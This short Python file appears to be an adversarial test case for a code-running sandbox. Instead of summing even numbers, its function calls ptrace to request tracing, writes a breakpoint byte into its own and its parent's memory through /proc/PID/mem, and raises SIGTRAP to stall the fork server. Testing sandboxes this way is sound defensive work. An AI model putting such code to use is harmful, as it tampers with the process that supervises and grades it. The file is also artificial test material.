# Tries: asks to be traced by its parent and stops, which would stop the fork server's wait; reads /proc/PID/mem.
# Target: sum_even, quick
import os
import signal


def sum_even(numbers):
    try:
        import ctypes

        ctypes.CDLL(None).ptrace(0, 0, 0, 0)
    except Exception:
        pass
    for process in ("self", os.getppid()):
        try:
            with open(f"/proc/{process}/mem", "r+b") as memory:
                memory.seek(0x400000)
                memory.write(b"\xcc")
        except OSError:
            pass
    try:
        signal.raise_signal(signal.SIGTRAP)
    except OSError:
        pass
    return -1
